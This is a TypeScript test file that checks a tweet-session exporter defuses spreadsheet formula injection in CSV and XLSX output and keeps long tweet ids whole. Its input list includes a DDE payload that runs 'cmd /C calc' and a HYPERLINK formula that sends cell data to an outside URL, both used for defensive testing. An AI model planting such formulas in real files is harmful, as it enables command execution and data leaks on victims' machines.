import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import type { StoredTweet } from '#shared/domain/stored-tweet.ts';
import { type ExportTools, exportSession } from '../../src-main/reports/export-session.ts';
import { describeWithCalc, openInCalc } from '../support/calc.ts';
import { STORED } from '../support/fake-composition.ts';
import { eventfulSession, SESSION_START_MS } from '../support/session-samples.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

/** Beginnings a spreadsheet may take for a formula, and what a formula would do. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.com/?"&A1;"open me")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '＝1＋1',
  '"=1+1"',
  '",=1+1,"',
  "'=1+1",
  ';=1+1',
  '1e5',
  '0012',
  'TRUE',
  '2026-01-02',
  '_x003D_1+1',
];

/** A workbook keeps ids longer than any number; in CSV a spreadsheet makes numbers of what looks like one. */
const FIRST_ID = { csv: 2_000_000n, xlsx: 1_900_000_000_000_000_000n };

const tweetsFrom = (firstId: bigint): readonly StoredTweet[] =>
  HOSTILE.map((text, offset) => ({
    ...STORED,
    tweet: { ...STORED.tweet, tweet_id: String(firstId + BigInt(offset)), text, hashtags: [text], user: text },
    createdAtMs: SESSION_START_MS + offset,
    position: { topic: 'tweets_raw', partition: 0, offset },
  }));

let folder: ReturnType<typeof temporaryFolder>;
beforeEach(() => {
  folder = temporaryFolder();
});
afterEach(() => folder.dispose());

const toolsWith = (tweets: readonly StoredTweet[]): ExportTools => ({
  stores: {
    archive: { readDay: async (day) => ({ tweets: day === '2026-01-26' ? tweets : [], cursor: null }) },
    index: { search: () => Promise.reject(new Error('nothing narrows the tweets')) },
  },
  printer: { print: () => Promise.reject(new Error('nothing is printed')) },
});

describeWithCalc('a spreadsheet opens the tweets', () => {
  it.each(['csv', 'xlsx'] as const)('as %s: without a formula or a link, and every id whole', async (format) => {
    const tweets = tweetsFrom(FIRST_ID[format]);
    const path = join(folder.path, `tweets.${format}`);
    const wish = { session: eventfulSession(), format, language: 'en', filter: {} } as const;
    await exportSession(toolsWith(tweets), wish, path, {
      signal: new AbortController().signal,
      onTweets: () => undefined,
    });
    const sheet = openInCalc(path);
    for (const run of ['table:formula', 'table:dde', 'xlink:href="http']) expect(sheet).not.toContain(run);
    const ids = [...sheet.matchAll(/<text:p>(\d{7,19})<\/text:p>/g)].map(([, id]) => id);
    expect(ids).toEqual(tweets.map(({ tweet }) => tweet.tweet_id));
  });

  it('which would see a formula if there were one', () => {
    const path = join(folder.path, 'plain.csv');
    writeFileSync(path, 'text\n=1+1\n');
    expect(openInCalc(path)).toContain('table:formula');
  });
});
